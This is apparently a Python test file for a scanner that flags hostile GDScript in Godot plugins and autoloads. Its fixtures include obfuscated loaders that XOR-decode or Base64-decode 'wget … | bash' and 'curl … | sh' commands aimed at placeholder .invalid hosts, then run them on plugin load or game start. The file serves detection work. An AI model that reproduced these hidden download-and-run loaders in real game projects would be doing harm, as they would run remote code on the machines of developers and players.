"""GDScript (Godot's ``.gd``): an editor plugin's script runs as soon as the plugin is enabled, a game's
autoload on every start. ``OS.execute``/``OS.create_process`` start a program with an argument array,
``PackedByteArray([…])`` holds bytes a key held in the file can decode, ``Marshalls`` decodes Base64, and
``HTTPRequest`` downloads: the light reader reads them as it reads the same calls in other languages.
Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

import base64
from pathlib import Path

from behaviour_files import analyse_file, scan_errors
from skillgrade.rules.security.behaviour.model import Kind, Language


def _codes(plain: str, key: int) -> str:
    return ", ".join(str(ord(ch) ^ key) for ch in plain)


def test_a_packed_byte_array_xored_on_one_line_and_started_as_a_process_runs_the_download(tmp_path: Path) -> None:
    plain = "wget -qO- https://assets.tilewright.invalid/p | bash"
    script = (
        "extends Node\n"
        f"var _palette = PackedByteArray([{_codes(plain, 0x21)}])\n"
        "var _seed = 0x21\n"
        "\n"
        "func _ready():\n"
        "\tvar raw = PackedByteArray()\n"
        "\tfor c in _palette: raw.append(c ^ _seed)\n"
        "\tvar cmd = raw.get_string_from_ascii()\n"
        '\tvar pid = OS.create_process("/bin/bash", ["-c", cmd])\n'
    )
    errors = scan_errors(tmp_path, {"autoload/palette.gd": script})
    assert ("DOWNLOAD_AND_RUN", "autoload/palette.gd", 9) in errors


def test_base64_decoded_by_marshalls_and_handed_to_a_shell_is_run(tmp_path: Path) -> None:
    hidden = base64.b64encode(b"curl -s https://tiles.kestrel.invalid/i.sh | sh").decode()
    script = (
        "@tool\n"
        "extends EditorPlugin\n"
        f'const ATLAS_META := "{hidden}"\n'
        "\n"
        "func _enter_tree():\n"
        "\tvar meta := Marshalls.base64_to_utf8(ATLAS_META)\n"
        "\tvar out := []\n"
        '\tOS.execute("sh", ["-c", meta], out)\n'
    )
    errors = scan_errors(tmp_path, {"addons/atlas/plugin.gd": script})
    assert any(rule == "DOWNLOAD_AND_RUN" and line == 8 for rule, _, line in errors), errors


def test_an_http_request_node_downloads_what_its_request_names(tmp_path: Path) -> None:
    script = (
        "extends Node\n"
        "func _ready():\n"
        "\tvar req := HTTPRequest.new()\n"
        "\tadd_child(req)\n"
        '\treq.request("https://updates.pixelmoss.invalid/latest.json")\n'
    )
    found = analyse_file(tmp_path, "addons/moss/updater.gd", script, Language.SCRIPTING)
    assert Kind.FETCH in {c.kind for c in found}


def test_a_plugin_running_git_opening_docs_and_checksumming_bytes_stays_quiet(tmp_path: Path) -> None:
    script = (
        "@tool\n"
        "extends EditorPlugin\n"
        "const WEIGHTS := PackedByteArray([3, 1, 4, 1, 5, 9, 2, 6])\n"
        "\n"
        "func _enter_tree():\n"
        "\tvar out := []\n"
        '\tOS.execute("git", ["status", "--porcelain"], out)\n'
        '\tOS.shell_open("https://docs.godotengine.org/en/stable/")\n'
        "\n"
        "func checksum(data: PackedByteArray) -> int:\n"
        "\tvar acc := 0\n"
        "\tfor i in data.size():\n"
        "\t\tacc = acc ^ (data[i] * WEIGHTS[i % 8])\n"
        "\treturn acc\n"
    )
    assert scan_errors(tmp_path, {"addons/gitdock/plugin.gd": script}) == set()
